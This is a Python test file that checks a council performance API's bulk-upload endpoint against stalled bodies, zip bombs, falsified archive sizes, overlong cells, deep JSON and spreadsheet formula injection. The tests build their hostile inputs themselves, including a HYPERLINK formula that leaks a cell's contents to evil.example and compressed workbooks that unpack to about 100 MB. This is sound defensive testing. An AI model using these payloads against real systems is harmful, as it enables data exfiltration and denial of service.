"""Hostile and slow uploads (issue #8, items 1, 3, 4, 5 and 6): a body that stalls or never ends, files
that unpack or expand far beyond their size on the wire, cells too long to echo, deep JSON, and cells
of the files we write that a spreadsheet would run as formulas.

Hostile files are built here, small on the wire. Nothing is timed: where a request must not hold up
another, the test orders events (the other request is answered while the first is still waiting).
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import threading
import uuid
import zipfile
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from pmf_api.access.actor import Grant
from pmf_api.access.tokens import mint_token
from pmf_api.domain.workflow import Role
from pmf_api.framework.organisations.models import Organisation
from pmf_api.main import attach_engine, create_app
from pmf_api.performance.bulk import parsing
from tests.api.builders import kpi_body, post, structure
from tests.api.conftest import TokenFactory
from tests.conftest import Backend, _create_postgres_database, _drop_postgres_database, make_settings, migrate
from tests.workbooks import HEADER_ROW, workbook

BULK = "/api/v1/submissions/bulk"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV = {"Content-Type": "text/csv"}
# A test waits this long for something that must happen at once; a failure never hangs the suite.
PATIENCE = 4.0
# A write on a loaded machine (CI) has taken longer than PATIENCE; a write held up by a stalled
# upload would wait for the upload's whole body deadline (60 s), so this still tells the two apart.
WRITE_PATIENCE = 20.0


def _problem(response: httpx.Response, status: int) -> dict[str, Any]:
    assert response.status_code == status, response.text[:500]
    assert response.headers["content-type"].startswith("application/problem+json")
    problem: dict[str, Any] = response.json()
    assert problem["status"] == status and problem["request_id"] == response.headers["X-Request-ID"]
    return problem


# --------------------------------------------------------------------------------------------
# Fixtures
# --------------------------------------------------------------------------------------------


def _app_client(backend: Backend, sessionmaker: async_sessionmaker[AsyncSession], **settings: Any) -> httpx.AsyncClient:
    app = create_app(backend.settings.model_copy(update=settings))
    app.state.engine = backend.engine
    app.state.sessionmaker = sessionmaker
    return httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://test")


@pytest.fixture
async def small_limits(
    backend: Backend, connection_sessionmaker: async_sessionmaker[AsyncSession]
) -> AsyncIterator[httpx.AsyncClient]:
    """Limits small enough that a test's files cross them cheaply."""
    limits = {
        "bulk_max_rows": 100,
        "bulk_max_cells": 1_000,
        "bulk_max_unzipped_bytes": 1_048_576,
        "bulk_max_body_bytes": 16_000,
    }
    async with _app_client(backend, connection_sessionmaker, **limits) as client:
        yield client


@pytest.fixture
async def impatient(
    backend: Backend, connection_sessionmaker: async_sessionmaker[AsyncSession]
) -> AsyncIterator[httpx.AsyncClient]:
    """The app waiting at most half a second for a request's body."""
    async with _app_client(backend, connection_sessionmaker, body_timeout_seconds=0.5) as client:
        yield client


@dataclass
class Deployed:
    client: httpx.AsyncClient
    performance: dict[str, str]
    viewer: dict[str, str]


@pytest.fixture(scope="module")
async def deployed(backend: Backend, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Deployed]:
    """The app on a database of its own, with its own engine and real commits (as deployed), so one
    request can hold a lock or a connection another needs. On PostgreSQL its pool has one connection:
    a request that kept one while waiting for its body would leave none for the others."""
    if backend.name == "sqlite":
        url = f"sqlite+aiosqlite:///{Path(tmp_path_factory.mktemp('uploads')) / 'deployed.db'}"
    else:
        url = await _create_postgres_database()
    try:
        await migrate(url)
        settings = make_settings(url).model_copy(update={"database_pool_size": 1, "database_max_overflow": 0})
        app = create_app(settings)
        attach_engine(app, settings)
        async with async_sessionmaker(app.state.engine, expire_on_commit=False)() as session:
            organisation = Organisation(code="UPLOADS", name="Uploads District Council", settings={})
            session.add(organisation)
            await session.commit()

        def token(role: Role) -> dict[str, str]:
            minted = mint_token(
                settings,
                organisation_id=organisation.id,
                subject=f"{role.value}@x.gov.uk",
                name="n",
                grants=[Grant(role)],
            )
            return {"Authorization": f"Bearer {minted}"}

        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://deployed") as client:
            yield Deployed(client, token(Role.PERFORMANCE), token(Role.VIEWER))
        await app.state.engine.dispose()
    finally:
        if backend.name == "postgresql":
            await _drop_postgres_database(url)


class StalledBody:
    """A request body that sends its first chunk, then waits (as a stalled client does) until released."""

    def __init__(self, first: bytes, rest: bytes = b"") -> None:
        self.first, self.rest = first, rest
        self.waiting = asyncio.Event()  # the server has asked for more than the first chunk
        self.released = asyncio.Event()

    async def __aiter__(self) -> AsyncIterator[bytes]:
        yield self.first
        self.waiting.set()
        await self.released.wait()
        if self.rest:
            yield self.rest


# --------------------------------------------------------------------------------------------
# 1. A stalled body holds no lock and no connection; a body has a deadline
# --------------------------------------------------------------------------------------------


async def test_a_stalled_upload_holds_up_no_other_write(deployed: Deployed) -> None:
    client = deployed.client
    body = StalledBody(b"kpi_code,period,value\n", b"WS01,2025/26 P1,1\n")
    stalled = asyncio.create_task(client.post(BULK, content=body, headers={**deployed.viewer, **CSV}))
    try:
        await asyncio.wait_for(body.waiting.wait(), PATIENCE)
        # Another member of the council writes while the upload is stalled: on SQLite it needs the
        # database's write lock, on PostgreSQL the pool's one connection.
        other = await asyncio.wait_for(
            client.post(
                "/api/v1/directorates",
                json={"code": f"D{uuid.uuid4().hex[:6]}", "name": "Place"},
                headers=deployed.performance,
            ),
            WRITE_PATIENCE,
        )
        assert other.status_code == 201, other.text
        assert not stalled.done()
    finally:
        body.released.set()
    answer = await asyncio.wait_for(stalled, PATIENCE)
    assert answer.status_code == 403  # a viewer may not push values: but only once the body is in


async def test_a_body_that_does_not_arrive_in_time_gets_408(impatient: httpx.AsyncClient, auth: TokenFactory) -> None:
    for path, first, headers in (
        (BULK, b"kpi_code,period,value\n", CSV),
        ("/api/v1/directorates", b'{"code": "D1", ', {"Content-Type": "application/json"}),
    ):
        body = StalledBody(first)
        try:
            answer = await asyncio.wait_for(impatient.post(path, content=body, headers={**auth(), **headers}), PATIENCE)
        finally:
            body.released.set()
        problem = _problem(answer, 408)
        assert "0.5 seconds" in problem["detail"], problem
        assert answer.headers["connection"] == "close"


def test_every_route_that_takes_a_body_documents_408_and_413() -> None:
    # The committed spec, which tests/test_openapi.py keeps equal to the code's.
    spec = json.loads((Path(__file__).parents[2] / "openapi" / "openapi.json").read_text())
    operations = [
        (method, path, operation)
        for path, item in spec["paths"].items()
        for method, operation in item.items()
        if "requestBody" in operation
    ]
    assert len(operations) > 10
    for method, path, operation in operations:
        assert {"408", "413"} <= set(operation["responses"]), (method, path)


async def test_a_refused_file_never_touches_the_database(
    backend: Backend, connection_sessionmaker: async_sessionmaker[AsyncSession], auth: TokenFactory
) -> None:
    """A file is read and checked whole before the request's transaction begins (on SQLite, before it
    takes the write lock): a file refused as a whole never opened one."""
    opened: list[str] = []

    def counting() -> AsyncSession:
        opened.append("session")
        return connection_sessionmaker()

    async with _app_client(backend, connection_sessionmaker) as client:
        client._transport.app.state.sessionmaker = counting  # type: ignore[attr-defined]
        refused = await client.post(BULK, content=b"kpi_code,value\nX,1\n", headers={**auth(), **CSV})
        _problem(refused, 422)
        assert opened == []
        accepted = await client.post(BULK, content=b"kpi_code,period,value\n", headers={**auth(), **CSV})
        assert accepted.status_code == 200, accepted.text
        assert opened == ["session"]


# --------------------------------------------------------------------------------------------
# 3. Parsing off the event loop; every row counts; work bounded by cells and unpacked bytes
# --------------------------------------------------------------------------------------------


async def test_parsing_a_file_does_not_hold_up_other_requests(
    client: httpx.AsyncClient, auth: TokenFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = parsing.read_upload
    entered, release = threading.Event(), threading.Event()
    released_in_time: list[bool] = []

    def slow_parse(*args: Any, **kwargs: Any) -> Any:
        entered.set()
        # Run on the event loop, this wait would stop /healthz from being answered, so nobody could
        # release it: it would give up after PATIENCE seconds.
        released_in_time.append(release.wait(PATIENCE))
        return real(*args, **kwargs)

    monkeypatch.setattr(parsing, "read_upload", slow_parse)
    upload = asyncio.create_task(client.post(BULK, content=b"kpi_code,period,value\n", headers={**auth(), **CSV}))
    for _ in range(int(PATIENCE * 100)):
        if entered.is_set():
            break
        await asyncio.sleep(0.01)
    health = await client.get("/healthz")
    release.set()
    assert health.status_code == 200
    assert (await upload).status_code == 200
    assert released_in_time == [True]


def _blank_rows_xlsx(count: int) -> bytes:
    """The header and ``count`` blank rows (numbered by their place, as a row without ``r`` is)."""
    return workbook(
        [HEADER_ROW.encode(), *(b"<row/>" * 10_000 for _ in range(count // 10_000)), b"<row/>" * (count % 10_000)]
    )


async def test_blank_rows_count_against_the_row_limit(client: httpx.AsyncClient, auth: TokenFactory) -> None:
    blank_lines = b"kpi_code,period,value\n" + b"\n" * 50_001
    problem = _problem(await client.post(BULK, content=blank_lines, headers={**auth(), **CSV}), 413)
    assert "at most 50000 rows" in problem["detail"]

    # A million blank rows cost 150 KB on the wire; one cell at row 1,000,000 costs nothing.
    million = _blank_rows_xlsx(1_000_000)
    assert len(million) < 200_000
    far = workbook([HEADER_ROW.encode(), b'<row r="1000000"><c r="A1000000"><v>1</v></c></row>'])
    for book in (million, far):
        problem = _problem(await client.post(BULK, content=book, headers={**auth(), "Content-Type": XLSX}), 413)
        assert "at most 50000 rows" in problem["detail"]

    # Blank rows within the limit are skipped as before.
    fine = await client.post(BULK, content=_blank_rows_xlsx(49_999), headers={**auth(), "Content-Type": XLSX})
    assert fine.status_code == 200 and fine.json()["rows"] == []


async def test_work_is_bounded_by_cells(small_limits: httpx.AsyncClient, auth: TokenFactory) -> None:
    wide_csv = b"kpi_code,period,value\n" + b"," * 1_000 + b"\n"
    wide_xlsx = workbook([HEADER_ROW.encode(), b'<row r="2">', b"<c><v>1</v></c>" * 1_000, b"</row>"])
    wide_row = {"kpi_code": "X", "period": "2025/26 P1", "value": 1, **{f"x{n}": 1 for n in range(8)}}
    wide_json = json.dumps({"rows": [wide_row] * 100}).encode()  # 100 rows (the limit) of 11 cells
    many_elements = workbook([HEADER_ROW.encode(), b"<x/>" * 10_000])  # no cells at all, yet work to do
    for payload, content_type in (
        (wide_csv, "text/csv"),
        (wide_xlsx, XLSX),
        (wide_json, "application/json"),
        (many_elements, XLSX),
    ):
        answer = await small_limits.post(BULK, content=payload, headers={**auth(), "Content-Type": content_type})
        problem = _problem(answer, 413)
        assert "1000 cells" in problem["detail"], (content_type, problem)


async def test_a_zip_bomb_is_refused_unopened(client: httpx.AsyncClient, auth: TokenFactory) -> None:
    """100 MB of nothing in the sheet, 100 KB on the wire: refused from the sizes the archive declares."""
    bomb = workbook([HEADER_ROW.encode(), *(b" " * 1_048_576 for _ in range(100))])
    assert len(bomb) < 200_000
    problem = _problem(await client.post(BULK, content=bomb, headers={**auth(), "Content-Type": XLSX}), 413)
    assert "unpacks to more than" in problem["detail"] and "xl/worksheets/sheet1.xml" in problem["detail"]


async def test_unpacked_bytes_are_bounded_over_the_whole_workbook(
    small_limits: httpx.AsyncClient, auth: TokenFactory
) -> None:
    strings = [b"<si><t>" + b"y" * 1_000 + b"</t></si>"] * 600  # 600 KB of shared strings
    rows = [
        HEADER_ROW.encode(),
        *(f'<row r="{n}"><c r="A{n}" t="s"><v>{n}</v></c></row>'.encode() for n in range(2, 99)),
    ]
    padded = [*rows, b" " * 500_000]  # and 500 KB more in the sheet: 1.1 MB in all
    answer = await small_limits.post(BULK, content=workbook(padded, strings), headers={**auth(), "Content-Type": XLSX})
    assert "unpacks to more than 1048576 bytes" in _problem(answer, 413)["detail"]


def _lie_about_size(workbook: bytes, part: str, size: int) -> bytes:
    """The workbook with ``part`` claiming, in the archive's directory, to unpack to ``size`` bytes."""
    data = bytearray(workbook)
    central = data.find(b"PK\x01\x02")
    while central != -1:
        name_length = int.from_bytes(data[central + 28 : central + 30], "little")
        if data[central + 46 : central + 46 + name_length] == part.encode():
            data[central + 24 : central + 28] = size.to_bytes(4, "little")
            break
        central = data.find(b"PK\x01\x02", central + 4)
    return bytes(data)


async def test_a_part_that_unpacks_to_more_than_it_claims_is_refused(
    client: httpx.AsyncClient, auth: TokenFactory
) -> None:
    honest = workbook([HEADER_ROW.encode(), b" " * 2_000_000])
    lying = _lie_about_size(honest, "xl/worksheets/sheet1.xml", 1_000)
    problem = _problem(await client.post(BULK, content=lying, headers={**auth(), "Content-Type": XLSX}), 422)
    assert "not an XLSX" in problem["detail"]


# --------------------------------------------------------------------------------------------
# 4. Each cell bounded; never more than a short excerpt of a bad value in an answer
# --------------------------------------------------------------------------------------------


async def test_a_huge_shared_string_is_refused_with_a_short_answer(
    client: httpx.AsyncClient, auth: TokenFactory
) -> None:
    """The issue's file: one 100 MB string in the shared strings part, 100 KB on the wire."""
    huge = [b"<si><t>", *(b"x" * 1_048_576 for _ in range(100)), b"</t></si>"]
    book = workbook([HEADER_ROW.encode(), b'<row r="2"><c r="A2" t="s"><v>0</v></c></row>'], huge)
    assert len(book) < 200_000
    answer = await client.post(BULK, content=book, headers={**auth(), "Content-Type": XLSX})
    _problem(answer, 413)
    assert len(answer.content) < 2_000


async def test_a_cell_longer_than_excel_allows_is_refused_with_an_excerpt(
    client: httpx.AsyncClient, auth: TokenFactory
) -> None:
    long = "x" * 40_000
    shared = workbook(
        [HEADER_ROW.encode(), b'<row r="2"><c r="A2" t="s"><v>0</v></c></row>'], [f"<si><t>{long}</t></si>".encode()]
    )
    inline = workbook(
        [HEADER_ROW.encode(), f'<row r="2"><c r="B2" t="inlineStr"><is><t>{long}</t></is></c></row>'.encode()]
    )
    as_csv = f"kpi_code,period,value\nX,2025/26 P1,{long}\n".encode()
    as_json = json.dumps({"rows": [{"kpi_code": "X", "period": "2025/26 P1", "commentary": long}]}).encode()
    for payload, content_type, where in (
        (shared, XLSX, "shared string"),
        (inline, XLSX, "B2"),
        (as_csv, "text/csv", "row 2, column 3"),
        (as_json, "application/json", "rows/0/commentary"),
    ):
        answer = await client.post(BULK, content=payload, headers={**auth(), "Content-Type": content_type})
        problem = _problem(answer, 422)
        assert "32767 characters" in problem["detail"] and where in problem["detail"], (where, problem)
        assert "xxxxxxxxxx" in problem["detail"] and len(answer.content) < 2_000, where


async def test_bad_values_are_echoed_as_short_excerpts(client: httpx.AsyncClient, auth: TokenFactory) -> None:
    h = auth()
    s = await structure(client, h)
    kpi = await post(client, "/api/v1/kpis", kpi_body(s, unit="count", aggregation="sum"), h)
    rows = [
        {"kpi_code": "K" * 5_000, "period": "2025/26 P1", "value": 1},
        {"kpi_code": kpi["code"], "period": "P" * 5_000, "value": 1},
        {"kpi_code": kpi["code"], "period": "2025/26 P1", "value": "9" * 3_000 + "x"},
        {"kpi_code": kpi["code"], "period": "2025/26 P2", "value": "1,5" * 2_000},
        {"kpi_code": kpi["code"], "period": "2025/26 P3", "value": 1, "c" * 5_000: 1},
        {"kpi_code": kpi["code"], "period": "2025/26 P4", **{f"extra{n}": 1 for n in range(500)}},
    ]
    answer = await client.post(BULK, json={"rows": rows, "z" * 5_000: 1}, headers=h)
    _problem(answer, 422)  # the unknown top-level field
    assert len(answer.content) < 2_000
    answer = await client.post(BULK, json={"rows": rows}, headers=h)
    assert answer.status_code == 200, answer.text[:500]
    assert [r["outcome"] for r in answer.json()["rows"]] == ["rejected"] * 6
    assert len(answer.content) < 8_000, answer.text[:500]
    first = answer.json()["rows"][0]
    assert first["kpi_code"].startswith("KKKKKKKKKK") and first["errors"][0]["detail"].startswith("No KPI KKKKK")


# --------------------------------------------------------------------------------------------
# 5. Deep JSON; a chunked body over the limit
# --------------------------------------------------------------------------------------------


async def test_deeply_nested_json_is_refused_not_a_crash(client: httpx.AsyncClient, auth: TokenFactory) -> None:
    for nested in (
        b'{"rows": ' + b"[" * 2_000 + b"]" * 2_000 + b"}",
        b'{"rows": [{"value": ' + b"[" * 5_000 + b"]" * 5_000 + b"}]}",
    ):
        answer = await client.post(BULK, content=nested, headers={**auth(), "Content-Type": "application/json"})
        problem = _problem(answer, 400)
        assert "nested too deeply" in problem["detail"]


async def _chunks(payload: bytes, size: int = 1_000) -> AsyncIterator[bytes]:
    for start in range(0, len(payload), size):
        yield payload[start : start + size]


async def test_a_chunked_body_over_the_limit_gets_413(small_limits: httpx.AsyncClient, auth: TokenFactory) -> None:
    rows = b"kpi_code,period,value\n" + b"X,2025/26 P1,1\n" * 1_200  # 18 KB, over the 16,000 bytes of this app
    answer = await small_limits.post(BULK, content=_chunks(rows), headers={**auth(), **CSV})
    assert "16000 bytes" in _problem(answer, 413)["detail"]
    directorate = json.dumps({"code": "BIG", "name": "x" * 2_000_000}).encode()  # over the 1 MB of other routes
    answer = await small_limits.post(
        "/api/v1/directorates",
        content=_chunks(directorate, 65_536),
        headers={**auth(), "Content-Type": "application/json"},
    )
    _problem(answer, 413)


# --------------------------------------------------------------------------------------------
# 6. The files we write never carry a live formula
# --------------------------------------------------------------------------------------------

FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")'


async def test_the_submission_template_carries_no_formula(client: httpx.AsyncClient, auth: TokenFactory) -> None:
    h = auth()
    s = await structure(client, h)
    owner = await post(client, "/api/v1/people", {"name": "@SUM(1+1)", "email": "at@example.gov.uk"}, h)
    kpis = [
        await post(client, "/api/v1/kpis", kpi_body(s, code="-PI1", title=FORMULA_TITLE, owner_id=owner["id"]), h),
        await post(client, "/api/v1/kpis", kpi_body(s, code="PI2", title="+44 calls\tanswered"), h),
    ]
    url = f"/api/v1/services/{s.service_id}/submission-template"

    book = await client.get(url, params={"period": "2025/26 P6"}, headers=h)
    assert book.status_code == 200, book.text
    with zipfile.ZipFile(io.BytesIO(book.content)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and all(b"<f>" not in sheet and b"<f " not in sheet for sheet in sheets)
    values = load_workbook(io.BytesIO(book.content))["Values"]
    lines = {row[0].value: row for row in values.iter_rows(min_row=2)}
    assert set(lines) == {"-PI1", "PI2"}
    title, owner_cell = lines["-PI1"][1], lines["-PI1"][4]
    assert (title.value, title.data_type, title.quotePrefix) == (FORMULA_TITLE, "s", True)
    assert (owner_cell.value, owner_cell.data_type, owner_cell.quotePrefix) == ("@SUM(1+1)", "s", True)
    assert lines["-PI1"][0].quotePrefix and lines["PI2"][1].quotePrefix

    as_csv = await client.get(url, params={"period": "2025/26 P6", "format": "csv"}, headers=h)
    cells = [cell for row in csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))) for cell in row]
    assert {"'-PI1", "'" + FORMULA_TITLE, "'@SUM(1+1)", "'+44 calls\tanswered"} <= set(cells)
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    # The neutralised cells still come back as they were: the template round trip holds.
    for payload, content_type in ((as_csv.content, "text/csv"), (book.content, XLSX)):
        back = await client.post(BULK, content=payload, headers={**h, "Content-Type": content_type})
        assert back.status_code == 200, back.text
        assert {r["kpi_code"]: r["outcome"] for r in back.json()["rows"]} == {k["code"]: "skipped" for k in kpis}
